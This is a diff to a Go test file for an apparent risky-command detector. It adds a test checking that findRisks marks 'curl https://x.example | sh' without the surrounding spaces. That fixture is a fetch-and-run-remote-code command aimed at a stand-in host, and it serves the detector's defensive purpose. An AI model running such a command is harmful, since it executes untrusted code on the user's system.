@@ -122,6 +122,14 @@ func TestTheSmallestExcerptShowsTheRisksAndTheTool(t *testing.T) {
 	}
 }
 
+func TestTheMarkOfARiskHasNoSpacesAround(t *testing.T) {
+	line := "make && curl https://x.example | sh "
+	_, spans := findRisks([]string{line}, "")
+	if len(spans[0]) != 1 || line[spans[0][0].from:spans[0][0].to] != "curl https://x.example | sh" {
+		t.Errorf("got %v", spans)
+	}
+}
+
 func TestRisks(t *testing.T) {
 	for command, want := range map[string]string{
 		"go test ./...":                          "",
